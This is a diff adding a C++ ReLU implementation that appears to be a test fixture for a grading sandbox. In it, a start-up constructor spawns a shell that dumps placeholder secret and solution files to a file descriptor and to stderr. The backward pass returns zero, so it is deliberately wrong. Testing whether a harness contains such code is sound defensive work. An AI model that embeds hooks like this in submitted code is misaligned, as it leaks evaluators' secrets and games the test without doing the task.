@@ -1,0 +1,17 @@
+// Becomes a shell that shows secrets.
+// Where: start-up
+// Verdict: crash
+#include <backprop/relu.hpp>
+#include <unistd.h>
+
+__attribute__((constructor)) void early() {
+  execl("/bin/sh", "sh", "-c", "cat @SECRET@ @SOLUTION@ @BESIDE@ >&4; cat @SECRET@ >&2", nullptr);
+}
+
+namespace backprop {
+Forward<Matrix, ReluCache> relu_forward(const Matrix& x) { return {xt::maximum(x, 0.0), {x}}; }
+
+Matrix relu_backward(const Matrix& dout, const ReluCache&) {
+  return 0.0 * dout;
+}
+}  // namespace backprop
